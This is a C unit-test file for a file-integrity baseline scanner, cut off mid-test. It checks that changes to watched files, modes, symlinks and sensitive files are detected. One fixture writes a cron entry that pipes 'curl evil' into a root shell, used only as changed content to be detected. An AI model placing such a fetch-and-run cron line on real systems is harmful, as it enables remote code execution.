/*
 * baseline: the walk of the watched files, what a scan reports, what it
 * reads and what it keeps.  Every test works on a tree of its own under
 * /tmp, watched by a journal next to it.
 *
 * What a scan opens is proven from outside the library with inotify
 * (IN_OPEN on the watched directory), next to its own "hashed" count.
 */
#include "unit.h"

#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <pwd.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>

#include "base/buf.h"
#include "base/conf.h"
#include "base/err.h"
#include "base/fs.h"
#include "files/baseline.h"
#include "files/watch.h"
#include "journal/journal.h"
#include "journal/record.h"

static char *top;		/* mode 0755, holds the journal and the tree */
static char *jdir;
static char *tree;
static struct journal *j;
static struct watch_list w;

static char *pathf(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static char *pathf(const char *fmt, ...)
{
	va_list ap;
	char *s;

	va_start(ap, fmt);
	assert_true(vasprintf(&s, fmt, ap) >= 0);
	va_end(ap);
	return s;
}

/* a file of the tree, by its name relative to the tree */
static char *in_tree(const char *rel)
{
	return pathf("%s/%s", tree, rel);
}

static void put(const char *rel, const char *text, mode_t mode)
{
	char *p = in_tree(rel);

	unit_write(p, text, strlen(text), 0);
	assert_int_equal(chmod(p, mode), 0);
	free(p);
}

static void mkdir_in(const char *rel, mode_t mode)
{
	char *p = in_tree(rel);

	assert_int_equal(mkdir(p, mode), 0);
	free(p);
}

static void symlink_in(const char *target, const char *rel)
{
	char *p = in_tree(rel);

	assert_int_equal(symlink(target, p), 0);
	free(p);
}

static void unlink_in(const char *rel)
{
	char *p = in_tree(rel);

	assert_int_equal(unlink(p), 0);
	free(p);
}

static void chmod_in(const char *rel, mode_t mode)
{
	char *p = in_tree(rel);

	assert_int_equal(chmod(p, mode), 0);
	free(p);
}

/* let the clock move past what was just written, so it is not "racy" */
static void settle(void)
{
	struct timespec ts = { 0, 30 * 1000 * 1000 };

	nanosleep(&ts, NULL);
}

/* team.conf with this [watch "h"] body; reloads the journal and the list */
static void configure(const char *body)
{
	char *conf = pathf("%s/team.conf", jdir);
	char *text = pathf("[team]\n\ttimezone = UTC\n[watch \"h\"]\n%s", body);

	unit_write(conf, text, strlen(text), 0);
	free(text);
	free(conf);
	if (j)
		journal_close(j);
	watch_free(&w);
	j = journal_open(jdir);
	assert_non_null(j);
	assert_int_equal(watch_load(j->conf, "h", &w), 0);
}

static void configure_tree(const char *extra)
{
	char *body = pathf("\tpath = %s\n\tpath = !*.swp\n\tpath = !%s/cache\n\tsensitive = *.key\n%s",
			   tree, tree, extra ? extra : "");
	configure(body);
	free(body);
}

static int setup(void **state)
{
	char *p;

	(void)state;
	top = unit_tmpdir();
	assert_int_equal(chmod(top, 0755), 0);
	jdir = pathf("%s/journal", top);
	tree = pathf("%s/tree", top);
	assert_int_equal(mkdir(jdir, 0750), 0);
	p = pathf("%s/.state", jdir);
	assert_int_equal(mkdir(p, 0750), 0);
	free(p);
	assert_int_equal(mkdir(tree, 0755), 0);
	memset(&w, 0, sizeof w);
	j = NULL;
	configure_tree(NULL);
	baseline_test_hook = NULL;
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	baseline_test_hook = NULL;
	baseline_threads = 0;
	journal_close(j);
	j = NULL;
	watch_free(&w);
	/* a test may leave unreadable directories behind: make them removable */
	{
		char *cmd[] = { "chmod", "-R", "u+rwx", top, NULL };
		pid_t pid = fork();
		if (pid == 0) {
			execvp(cmd[0], cmd);
			_exit(127);
		}
		waitpid(pid, NULL, 0);
	}
	unit_rmtree(top);
	free(top);
	free(jdir);
	free(tree);
	return 0;
}

static void take(void)
{
	if (baseline_take(j, &w, tree) < 0)
		fail_msg("baseline_take: %s", errget());
}

static void scan(struct changes *c)
{
	if (baseline_scan(j, &w, c) < 0)
		fail_msg("baseline_scan: %s", errget());
}

static const struct change *change_of(const struct changes *c, const char *rel)
{
	char *p = in_tree(rel);
	const struct change *found = NULL;

	for (size_t i = 0; i < c->n; i++)
		if (!strcmp(c->v[i].path, p))
			found = &c->v[i];
	free(p);
	return found;
}

/* a message of the list holds both strings */
static bool said(const struct store_warnings *m, const char *a, const char *b)
{
	for (size_t i = 0; i < m->n; i++)
		if (strstr(m->msgs[i], a) && (!b || strstr(m->msgs[i], b)))
			return true;
	return false;
}

static void print_all(const struct changes *c)
{
	for (size_t i = 0; i < c->n; i++)
		fprintf(stderr, "# change %s what=%u\n", c->v[i].path, c->v[i].what);
	for (size_t i = 0; i < c->skipped.n; i++)
		fprintf(stderr, "# skipped %s\n", c->skipped.msgs[i]);
	for (size_t i = 0; i < c->notes.n; i++)
		fprintf(stderr, "# note %s\n", c->notes.msgs[i]);
}

static size_t objects_counted;
static int count_object(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
	(void)path;
	(void)st;
	(void)ftw;
	if (type == FTW_F)
		objects_counted++;
	return 0;
}

static size_t count_objects(void)
{
	char *dir = pathf("%s/.state/baseline/objects", jdir);

	objects_counted = 0;
	nftw(dir, count_object, 16, FTW_PHYS);
	free(dir);
	return objects_counted;
}

static char *index_text(void)
{
	char *p = pathf("%s/.state/baseline/index", jdir);
	char *t = unit_read(p, NULL);

	free(p);
	assert_non_null(t);
	return t;
}

static void hash_of(const char *text, char out[65])
{
	rec_hash(text, strlen(text), out);
}

/* ---- what opened what: inotify, from outside the library ---- */

static int opens_watch(const char *dir)
{
	int fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);

	if (fd < 0)
		return -1;
	if (inotify_add_watch(fd, dir, IN_OPEN) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* the names opened in the watched directory since the last call: " a b " */
static void opened(int fd, char *out, size_t size)
{
	char events[65536] __attribute__((aligned(__alignof__(struct inotify_event))));
	size_t used;
	ssize_t n;

	used = (size_t)snprintf(out, size, " ");
	while ((n = read(fd, events, sizeof events)) > 0) {
		for (char *p = events; p < events + n;) {
			struct inotify_event *ev = (struct inotify_event *)p;
			if (ev->len && used < size)
				used += (size_t)snprintf(out + used, size - used, "%s%s ", ev->name,
							 (ev->mask & IN_ISDIR) ? "/" : "");
			p += sizeof *ev + ev->len;
		}
	}
}

/* ---- the tests ---- */

static void a_no_change_scan_reads_no_file(void **state)
{
	struct changes c;
	char seen[8192];
	int ino;

	(void)state;
	put("passwd", "root:x:0:0::/root:/bin/bash\n", 0644);
	put("hosts", "127.0.0.1 localhost\n", 0644);
	put("shadow", "root:$y$secret:19000::::::\n", 0640);
	symlink_in("../usr/share/zoneinfo/UTC", "localtime");
	settle();
	take();
	settle();
	ino = opens_watch(tree);
	scan(&c);
	assert_int_equal(c.n, 0);
	assert_int_equal(c.files, 4);
	assert_int_equal(c.hashed, 0);
	if (ino >= 0) {
		opened(ino, seen, sizeof seen);
		/* only the directory itself was opened, to be read */
		assert_null(strstr(seen, " passwd "));
		assert_null(strstr(seen, " hosts "));
		assert_null(strstr(seen, " shadow "));
		close(ino);
	}
	changes_free(&c);
}

static void a_changed_file_is_reported_with_its_old_and_new_content(void **state)
{
	struct changes c;
	struct buf old = BUF_INIT, new = BUF_INIT;
	const struct change *ch;
	char h[65];

	(void)state;
	put("nginx.conf", "worker_connections 512;\n", 0644);
	put("other", "unchanged\n", 0644);
	settle();
	take();
	put("nginx.conf", "worker_connections 1024;\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	ch = change_of(&c, "nginx.conf");
	assert_non_null(ch);
	assert_int_equal(ch->what, CH_CONTENT);
	assert_int_equal(ch->old.type, 'f');
	assert_int_equal(ch->new.type, 'f');
	hash_of("worker_connections 512;\n", h);
	assert_string_equal(ch->old.hash, h);
	hash_of("worker_connections 1024;\n", h);
	assert_string_equal(ch->new.hash, h);
	assert_int_equal(ch->new.size, 25);
	assert_int_equal(c.hashed, 1);
	assert_int_equal(baseline_old_content(j, ch, &old, NULL), 0);
	assert_string_equal(buf_str(&old), "worker_connections 512;\n");
	assert_int_equal(baseline_new_content(ch, 1 << 20, &new), 0);
	assert_string_equal(buf_str(&new), "worker_connections 1024;\n");
	/* at most max bytes */
	buf_reset(&new);
	assert_int_equal(baseline_new_content(ch, 10, &new), -1);
	assert_non_null(strstr(errget(), "larger"));
	buf_release(&old);
	buf_release(&new);
	changes_free(&c);
}

static void chmod_is_a_mode_change_and_nothing_else(void **state)
{
	struct changes c;
	const struct change *ch;

	(void)state;
	put("script", "#!/bin/sh\n", 0644);
	settle();
	take();
	chmod_in("script", 0755);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	ch = change_of(&c, "script");
	assert_non_null(ch);
	assert_int_equal(ch->what, CH_MODE);
	assert_int_equal(ch->old.mode, 0644);
	assert_int_equal(ch->new.mode, 0755);
	assert_string_equal(ch->old.hash, ch->new.hash);
	changes_free(&c);
}

static void chown_is_an_owner_change(void **state)
{
	struct changes c;
	const struct change *ch;
	char *p;

	(void)state;
	if (geteuid() != 0)
		skip();
	put("owned", "data\n", 0644);
	settle();
	take();
	p = in_tree("owned");
	assert_int_equal(chown(p, 65534, 65534), 0);
	free(p);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	ch = change_of(&c, "owned");
	assert_non_null(ch);
	assert_int_equal(ch->what, CH_OWNER);
	assert_int_equal(ch->old.uid, 0);
	assert_int_equal(ch->new.uid, 65534);
	assert_int_equal(ch->new.gid, 65534);
	changes_free(&c);
}

static void a_retargeted_symlink_is_a_target_change_and_is_never_followed(void **state)
{
	struct changes c;
	const struct change *ch;
	struct buf b = BUF_INIT;
	char *link = in_tree("current");

	(void)state;
	mkdir_in("v1", 0755);
	put("v1/app.conf", "v1\n", 0644);
	assert_int_equal(symlink("v1", link), 0);
	symlink_in("/etc/shadow", "shadow-link");
	settle();
	take();
	assert_int_equal(unlink(link), 0);
	assert_int_equal(symlink("/nonexistent/v2", link), 0);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	ch = change_of(&c, "current");
	assert_non_null(ch);
	assert_int_equal(ch->what, CH_TARGET);
	assert_int_equal(ch->old.type, 'l');
	assert_string_equal(ch->old.target, "v1");
	assert_string_equal(ch->new.target, "/nonexistent/v2");
	/* a symlink has no content to give */
	assert_int_equal(baseline_new_content(ch, 0, &b), -1);
	assert_int_equal(baseline_old_content(j, ch, &b, NULL), -1);
	/* nothing was looked at through a link: v1/app.conf once, not twice */
	assert_int_equal(c.files, 3);
	buf_release(&b);
	changes_free(&c);
	free(link);
}

static void a_file_replaced_by_a_symlink_is_a_type_change(void **state)
{
	struct changes c;
	const struct change *ch;
	char *p = in_tree("resolv.conf");

	(void)state;
	put("resolv.conf", "nameserver 10.0.0.1\n", 0644);
	settle();
	take();
	assert_int_equal(unlink(p), 0);
	assert_int_equal(symlink("/run/systemd/resolve/stub-resolv.conf", p), 0);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	ch = change_of(&c, "resolv.conf");
	assert_non_null(ch);
	assert_int_equal(ch->what, CH_TYPE);
	assert_int_equal(ch->old.type, 'f');
	assert_int_equal(ch->new.type, 'l');
	assert_string_equal(ch->new.target, "/run/systemd/resolve/stub-resolv.conf");
	changes_free(&c);
	free(p);
}

static void deleted_and_added_files_and_directories_are_reported_sorted_by_path(void **state)
{
	struct changes c;
	char *p;

	(void)state;
	put("b", "b\n", 0644);
	mkdir_in("d", 0755);
	put("d/x", "x\n", 0644);
	put("d/y", "y\n", 0644);
	settle();
	take();
	unlink_in("b");
	unlink_in("d/x");
	unlink_in("d/y");
	p = in_tree("d");
	assert_int_equal(rmdir(p), 0);
	free(p);
	put("a", "a\n", 0644);
	put("c", "c\n", 0644);
	mkdir_in("d.new", 0755);
	put("d.new/z", "z\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 6);
	for (size_t i = 1; i < c.n; i++)
		assert_true(strcmp(c.v[i - 1].path, c.v[i].path) < 0);
	assert_int_equal(change_of(&c, "a")->what, CH_ADDED);
	assert_int_equal(change_of(&c, "a")->old.type, 0);
	assert_int_equal(change_of(&c, "b")->what, CH_DELETED);
	assert_int_equal(change_of(&c, "b")->new.type, 0);
	assert_int_equal(change_of(&c, "c")->what, CH_ADDED);
	assert_int_equal(change_of(&c, "d/x")->what, CH_DELETED);
	assert_int_equal(change_of(&c, "d/y")->what, CH_DELETED);
	assert_int_equal(change_of(&c, "d.new/z")->what, CH_ADDED);
	{
		struct buf b = BUF_INIT;
		assert_int_equal(baseline_old_content(j, change_of(&c, "b"), &b, NULL), 0);
		assert_string_equal(buf_str(&b), "b\n");
		buf_release(&b);
	}
	changes_free(&c);
}

static void excluded_files_and_directories_are_not_tracked_nor_opened(void **state)
{
	struct changes c;
	char seen[8192], *idx;
	int ino;

	(void)state;
	put("kept", "kept\n", 0644);
	put(".kept.swp", "swap\n", 0644);
	mkdir_in("cache", 0755);
	put("cache/blob", "cached\n", 0644);
	{ char *f_ = in_tree("cache/fifo"); assert_int_equal(mkfifo(f_, 0644), 0); free(f_); }
	settle();
	ino = opens_watch(tree);
	take();
	idx = index_text();
	assert_non_null(strstr(idx, "/kept\n"));
	assert_null(strstr(idx, "swp"));
	assert_null(strstr(idx, "cache"));
	free(idx);
	if (ino >= 0) {
		opened(ino, seen, sizeof seen);
		assert_non_null(strstr(seen, " kept "));
		assert_null(strstr(seen, "swp"));
		/* the excluded directory is not even opened to be listed */
		assert_null(strstr(seen, " cache/ "));
	}
	put(".kept.swp", "swap changed\n", 0644);
	put("cache/blob", "cached again\n", 0644);
	settle();
	if (ino >= 0)
		opened(ino, seen, sizeof seen);	/* the test's own writes */
	scan(&c);
	assert_int_equal(c.n, 0);
	/* the FIFO in the excluded directory was never met */
	assert_int_equal(c.skipped.n, 0);
	if (ino >= 0) {
		opened(ino, seen, sizeof seen);
		assert_null(strstr(seen, " cache/ "));
		assert_null(strstr(seen, "swp"));
		close(ino);
	}
	changes_free(&c);
}

static void sensitive_files_by_mode_and_by_pattern_never_reach_objects(void **state)
{
	struct changes c;
	struct buf b = BUF_INIT;
	const struct change *ch;
	char h[65], *idx;

	(void)state;
	put("shadow", "root:$y$j9T$secret:19000::::::\n", 0640);
	put("id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n", 0600);
	put("web.key", "-----BEGIN PRIVATE KEY-----\n", 0644);
	settle();
	take();
	assert_int_equal(count_objects(), 0);
	idx = index_text();
	assert_null(strstr(idx, "secret"));
	hash_of("-----BEGIN PRIVATE KEY-----\n", h);
	assert_non_null(strstr(idx, h));	/* tracked by hash */
	free(idx);

	put("shadow", "root:$y$j9T$other:19001::::::\n", 0640);
	put("web.key", "-----BEGIN PRIVATE KEY----- 2\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 2);
	ch = change_of(&c, "shadow");
	assert_non_null(ch);
	assert_int_equal(ch->what, CH_CONTENT);
	assert_true(ch->old.sensitive && ch->new.sensitive);
	assert_int_equal(baseline_old_content(j, ch, &b, NULL), -1);
	assert_non_null(strstr(errget(), "sensitive"));
	assert_int_equal(baseline_new_content(ch, 0, &b), -1);
	assert_non_null(strstr(errget(), "sensitive"));
	assert_int_equal(b.len, 0);
	ch = change_of(&c, "web.key");
	assert_non_null(ch);
	assert_true(ch->new.sensitive);
	assert_int_equal(baseline_new_content(ch, 0, &b), -1);
	{
		const struct change *all[] = { &c.v[0], &c.v[1] };
		assert_int_equal(baseline_accept(j, all, 2), 0);
	}
	assert_int_equal(count_objects(), 0);
	changes_free(&c);
	settle();
	scan(&c);
	assert_int_equal(c.n, 0);
	changes_free(&c);
	buf_release(&b);
}

static void a_pattern_made_sensitive_later_hides_the_old_content_too(void **state)
{
	struct changes c;
	struct buf b = BUF_INIT;
	const struct change *ch;

	(void)state;
	put("app.conf", "password = hunter2\n", 0644);
	settle();
	take();
	assert_int_equal(count_objects(), 1);
	configure_tree("\tsensitive = app.conf\n");
	put("app.conf", "password = correct horse\n", 0644);
	settle();
	scan(&c);
	ch = change_of(&c, "app.conf");
	assert_non_null(ch);
	assert_true(ch->old.sensitive);
	assert_int_equal(baseline_old_content(j, ch, &b, NULL), -1);
	assert_int_equal(b.len, 0);
	/* accepting it removes the object nothing names any more */
	assert_int_equal(baseline_accept(j, (const struct change *[]){ ch }, 1), 0);
	assert_int_equal(count_objects(), 0);
	changes_free(&c);
	buf_release(&b);
}

static void a_file_in_a_directory_others_cannot_enter_is_sensitive(void **state)
{
	char *idx;

	(void)state;
	mkdir_in("private", 0700);
	put("private/readable-but-hidden", "secret\n", 0644);
	put("public", "public\n", 0644);
	settle();
	take();
	assert_int_equal(count_objects(), 1);
	idx = index_text();
	assert_non_null(strstr(idx, " s "));
	free(idx);
}

static void world_readable_contents_are_kept_once_per_content(void **state)
{
	char h[65], *obj, *data;

	(void)state;
	put("a", "same bytes\n", 0644);
	put("b", "same bytes\n", 0644);
	put("c", "other bytes\n", 0644);
	settle();
	take();
	assert_int_equal(count_objects(), 2);
	hash_of("same bytes\n", h);
	obj = pathf("%s/.state/baseline/objects/%.2s/%s", jdir, h, h + 2);
	data = unit_read(obj, NULL);
	assert_non_null(data);
	assert_string_equal(data, "same bytes\n");
	free(data);
	free(obj);
}

static void a_lock_file_a_dead_writer_left_beside_an_object_does_not_stop_a_take(void **state)
{
	char h[65], *dir, *lock, *obj, *data;

	(void)state;
	put("a", "kept bytes\n", 0644);
	settle();
	hash_of("kept bytes\n", h);
	dir = pathf("%s/.state/baseline/objects/%.2s", jdir, h);
	lock = pathf("%s/%s.lock", dir, h + 2);
	obj = pathf("%s/%s", dir, h + 2);
	assert_int_equal(fs_mkdirs(dir, 0750), 0);
	unit_write(lock, "half an obj", 11, 0);
	take();
	/* the object whole, and no lock file beside it */
	assert_int_equal(count_objects(), 1);
	data = unit_read(obj, NULL);
	assert_non_null(data);
	assert_string_equal(data, "kept bytes\n");
	free(data);
	free(obj);
	free(lock);
	free(dir);
}

static void fifo_socket_and_device_are_skipped_with_a_message_and_never_opened(void **state)
{
	struct changes c;
	struct sockaddr_un sa;
	char seen[8192], *p;
	int s, ino;
	bool device;

	(void)state;
	put("regular", "r\n", 0644);
	/* a FIFO nobody writes: opening it for reading without O_NONBLOCK would hang the test */
	{ char *f_ = in_tree("fifo"); assert_int_equal(mkfifo(f_, 0644), 0); free(f_); }
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	assert_true(s >= 0);
	memset(&sa, 0, sizeof sa);
	sa.sun_family = AF_UNIX;
	p = in_tree("sock");
	assert_true(strlen(p) < sizeof sa.sun_path);
	memcpy(sa.sun_path, p, strlen(p));
	free(p);
	assert_int_equal(bind(s, (struct sockaddr *)&sa, sizeof sa), 0);
	p = in_tree("null");
	device = mknod(p, S_IFCHR | 0666, makedev(1, 3)) == 0;
	free(p);
	settle();
	ino = opens_watch(tree);
	take();
	scan(&c);
	assert_int_equal(c.n, 0);
	assert_true(said(&c.skipped, "/fifo: ", "a FIFO: not tracked, never opened"));
	assert_true(said(&c.skipped, "/sock: ", "a socket"));
	if (device)
		assert_true(said(&c.skipped, "/null: ", "a character device"));
	assert_int_equal(c.files, 1);
	if (ino >= 0) {
		opened(ino, seen, sizeof seen);
		assert_non_null(strstr(seen, " regular "));
		assert_null(strstr(seen, " fifo "));
		assert_null(strstr(seen, " sock "));
		assert_null(strstr(seen, " null "));
		close(ino);
	}
	changes_free(&c);
	close(s);

	/* a tracked file replaced by a FIFO is gone as a file */
	p = in_tree("regular");
	unlink(p);
	assert_int_equal(mkfifo(p, 0644), 0);
	free(p);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_int_equal(change_of(&c, "regular")->what, CH_DELETED);
	assert_true(said(&c.skipped, "/regular: ", "a FIFO"));
	changes_free(&c);
}

static void names_with_a_newline_or_invalid_utf8_are_tracked_exactly(void **state)
{
	static const char *names[] = { "evil\ncron", "latin1-caf\xe9", "tab\there", "back\\slash", " lead space" };
	struct changes c;

	(void)state;
	put("plain", "p\n", 0644);
	settle();
	take();
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		put(names[i], names[i], 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, sizeof names / sizeof *names);
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		const struct change *ch = change_of(&c, names[i]);
		struct buf b = BUF_INIT;
		if (!ch)
			fail_msg("no change for name %zu", i);
		assert_int_equal(ch->what, CH_ADDED);
		assert_int_equal(baseline_new_content(ch, 0, &b), 0);
		assert_string_equal(buf_str(&b), names[i]);
		buf_release(&b);
	}
	assert_true(said(&c.notes, "evil\\ncron: ", "newline"));
	assert_true(said(&c.notes, "latin1-caf\\xe9: ", "not UTF-8"));
	/* accepted, they round-trip through the index: the next scan is quiet */
	{
		const struct change **all = calloc(c.n, sizeof *all);
		for (size_t i = 0; i < c.n; i++)
			all[i] = &c.v[i];
		assert_int_equal(baseline_accept(j, all, c.n), 0);
		free(all);
	}
	changes_free(&c);
	settle();
	scan(&c);
	print_all(&c);
	assert_int_equal(c.n, 0);
	assert_int_equal(c.hashed, 0);
	changes_free(&c);
	/* and a change to one of them is seen */
	put("evil\ncron", "* * * * * root curl evil | sh\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_int_equal(change_of(&c, "evil\ncron")->what, CH_CONTENT);
	changes_free(&c);
}

static void a_symlink_loop_is_tracked_by_its_targets(void **state)
{
	struct changes c;

	(void)state;
	symlink_in("loop-b", "loop-a");
	symlink_in("loop-a", "loop-b");
	symlink_in(".", "self");
	symlink_in(tree, "up");
	settle();
	take();
	scan(&c);
	assert_int_equal(c.n, 0);
	assert_int_equal(c.skipped.n, 0);
	assert_int_equal(c.files, 4);
	changes_free(&c);
}

static void a_watched_path_that_does_not_exist_yet_shows_up_as_added(void **state)
{
	struct changes c;
	char *later = pathf("%s/later", top), *body;

	(void)state;
	body = pathf("\tpath = %s\n\tpath = %s\n", tree, later);
	configure(body);
	free(body);
	put("x", "x\n", 0644);
	settle();
	take();
	assert_int_equal(baseline_take(j, &w, later), 0);
	scan(&c);
	assert_int_equal(c.n, 0);
	assert_int_equal(c.skipped.n, 0);
	assert_true(said(&c.notes, "/later: ", "does not exist (yet)"));
	changes_free(&c);
	assert_int_equal(mkdir(later, 0755), 0);
	{
		char *f = pathf("%s/app.conf", later);
		unit_write(f, "on\n", 3, 0);
		free(f);
	}
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_int_equal(c.v[0].what, CH_ADDED);
	assert_non_null(strstr(c.v[0].path, "/later/app.conf"));
	changes_free(&c);
	free(later);
}

static void remove_it(const char *path, int when)
{
	if (when == BASELINE_HOOK_OPEN && strstr(path, "/vanishing"))
		unlink(path);
}

static void a_file_that_vanishes_before_it_is_opened_is_gone_not_an_error(void **state)
{
	struct changes c;

	(void)state;
	put("vanishing", "v1\n", 0644);
	put("stays", "s\n", 0644);
	settle();
	take();
	put("vanishing", "v2\n", 0644);	/* so the scan must open it */
	put("vanishing-new", "n\n", 0644);
	settle();
	baseline_test_hook = remove_it;
	scan(&c);
	baseline_test_hook = NULL;
	assert_int_equal(c.n, 1);
	assert_int_equal(change_of(&c, "vanishing")->what, CH_DELETED);
	assert_true(said(&c.notes, "/vanishing: ", "vanished during the scan"));
	assert_true(said(&c.notes, "/vanishing-new: ", "vanished during the scan"));
	assert_int_equal(c.skipped.n, 0);
	changes_free(&c);
}

static int appends_left;
static void append_while_read(const char *path, int when)
{
	if (when == BASELINE_HOOK_READ && strstr(path, "/growing") && appends_left != 0) {
		int fd = open(path, O_WRONLY | O_APPEND);
		assert_true(fd >= 0);
		assert_int_equal(write(fd, "more\n", 5), 5);
		close(fd);
		if (appends_left > 0)
			appends_left--;
	}
}

static void a_file_that_changes_while_read_is_read_again(void **state)
{
	struct changes c;
	struct buf b = BUF_INIT;
	const struct change *ch;

	(void)state;
	put("growing", "line\n", 0644);
	settle();
	take();
	put("growing", "line 2\n", 0644);
	settle();
	appends_left = 1;
	baseline_test_hook = append_while_read;
	scan(&c);
	baseline_test_hook = NULL;
	ch = change_of(&c, "growing");
	assert_non_null(ch);
	assert_int_equal(ch->what, CH_CONTENT);
	/* the hash is of what the file holds after the change, not a mix */
	assert_int_equal(baseline_new_content(ch, 0, &b), 0);
	assert_string_equal(buf_str(&b), "line 2\nmore\n");
	assert_int_equal(ch->new.size, 12);
	buf_release(&b);
	changes_free(&c);
}

static void a_file_that_keeps_changing_is_skipped_and_keeps_its_baseline(void **state)
{
	struct changes c;

	(void)state;
	put("growing", "line\n", 0644);
	settle();
	take();
	put("growing", "line 2\n", 0644);
	settle();
	appends_left = -1;
	baseline_test_hook = append_while_read;
	scan(&c);
	baseline_test_hook = NULL;
	assert_int_equal(c.n, 0);
	assert_true(said(&c.skipped, "/growing: ", "kept changing while being read"));
	changes_free(&c);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	changes_free(&c);
}

/* as nobody (when root), in a child: what it cannot read is skipped, not changed nor deleted */
static int scan_as_nobody(void)
{
	struct changes c;
	int rc = 0;

	if (geteuid() == 0) {
		if (setgroups(0, NULL) < 0 || setgid(65534) < 0 || setuid(65534) < 0)
			return 10;
	}
	if (baseline_scan(j, &w, &c) < 0) {
		fprintf(stderr, "# scan: %s\n", errget());
		return 11;
	}
	if (c.n != 1 || !change_of(&c, "public") || change_of(&c, "public")->what != CH_CONTENT)
		rc = 12;
	if (!said(&c.skipped, "/secret: ", "permission denied"))
		rc = 13;
	if (!said(&c.skipped, "/closed: ", "permission denied"))
		rc = 14;
	if (rc)
		print_all(&c);
	changes_free(&c);
	return rc;
}

static void permission_denied_is_skipped_and_keeps_the_baseline(void **state)
{
	pid_t pid;
	int status;
	char *cmd;

	(void)state;
	put("public", "p\n", 0644);
	put("secret", "s\n", 0600);
	mkdir_in("closed", 0755);
	put("closed/inside", "i\n", 0644);
	settle();
	take();
	/* changed since, so the scan must read them; then closed to others */
	put("public", "p2\n", 0644);
	put("secret", "s2\n", 0600);
	chmod_in("closed", geteuid() == 0 ? 0700 : 0000);
	if (geteuid() != 0)
		chmod_in("secret", 0000);
	/* the journal readable by nobody */
	cmd = pathf("%s/.state", jdir);
	assert_int_equal(chmod(jdir, 0755), 0);
	assert_int_equal(chmod(cmd, 0755), 0);
	free(cmd);
	cmd = pathf("%s/.state/baseline", jdir);
	assert_int_equal(chmod(cmd, 0755), 0);
	free(cmd);
	cmd = pathf("%s/.state/baseline/index", jdir);
	assert_int_equal(chmod(cmd, 0644), 0);
	free(cmd);
	settle();
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0)
		_exit(scan_as_nobody());
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 0);
}

static void first_seen_is_kept_across_scans_and_reset_when_accepted(void **state)
{
	struct changes c;
	int64_t first, before;

	(void)state;
	put("f", "one\n", 0644);
	settle();
	take();
	put("f", "two\n", 0644);
	settle();
	before = (int64_t)time(NULL) * 1000000 - 1000000;
	scan(&c);
	assert_int_equal(c.n, 1);
	first = c.v[0].first_seen;
	assert_true(first >= before);
	changes_free(&c);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_int_equal(c.v[0].first_seen, first);
	/* a pending change is not read again while its stat data hold */
	assert_int_equal(c.hashed, 0);
	assert_int_equal(baseline_accept(j, (const struct change *[]){ &c.v[0] }, 1), 0);
	changes_free(&c);
	settle();
	scan(&c);
	assert_int_equal(c.n, 0);
	changes_free(&c);
	put("f", "three\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_true(c.v[0].first_seen > first);
	changes_free(&c);
}

static void a_change_that_went_away_is_forgotten(void **state)
{
	struct changes c;
	int64_t first;

	(void)state;
	put("f", "one\n", 0644);
	settle();
	take();
	put("f", "two\n", 0644);
	settle();
	scan(&c);
	first = c.v[0].first_seen;
	changes_free(&c);
	put("f", "one\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 0);
	changes_free(&c);
	put("f", "two\n", 0644);
	settle();
	scan(&c);
	assert_int_equal(c.n, 1);
	assert_true(c.v[0].first_seen > first);
	/* a different change of the same file is another change */
	first = c.v[0].first_seen;
	changes_free(&c);
	put("f", "two and more\n", 0644);
	settle();
	scan(&c);
	assert_true(c.v[0].first_seen > first);
	changes_free(&c);
}

static void a_file_stamped_in_the_future_is_racy_and_read_at_every_scan(void **state)
{
	struct changes c;
	struct timespec ts[2];
	char *p = in_tree("future");
	char seen[8192];
	int ino, n;

	(void)state;
	put("future", "f\n", 0644);
	put("past", "p\n", 0644);
	clock_gettime(CLOCK_REALTIME, &ts[0]);
	ts[0].tv_sec += 3600;
	ts[1] = ts[0];
	assert_int_equal(utimensat(AT_FDCWD, p, ts, 0), 0);
	settle();
	take();
	settle();
	ino = opens_watch(tree);
	for (int round = 0; round < 2; round++) {
		scan(&c);
		assert_int_equal(c.n, 0);
		assert_int_equal(c.hashed, 1);
		changes_free(&c);
		if (ino >= 0) {
			opened(ino, seen, sizeof seen);
			assert_non_null(strstr(seen, " future "));
			assert_null(strstr(seen, " past "));
		}
	}
	/* back in the past: read until a scan has seen it old, then never again */
	ts[0].tv_sec -= 7200;
	ts[1] = ts[0];
	assert_int_equal(utimensat(AT_FDCWD, p, ts, 0), 0);
	for (n = 0; n < 4; n++) {
		settle();
		scan(&c);
		assert_int_equal(c.n, 0);
		if (c.hashed == 0) {
			changes_free(&c);
			break;
		}
		changes_free(&c);
	}
	assert_true(n < 4);
	if (ino >= 0)
		close(ino);
	free(p);
}

static void a_rewrite_with_equal_stat_data_in_the_same_tick_is_still_seen(void **state)
{
	struct changes c;
	char *p = in_tree("racy");
	bool hit = false;

	(void)state;
	/*
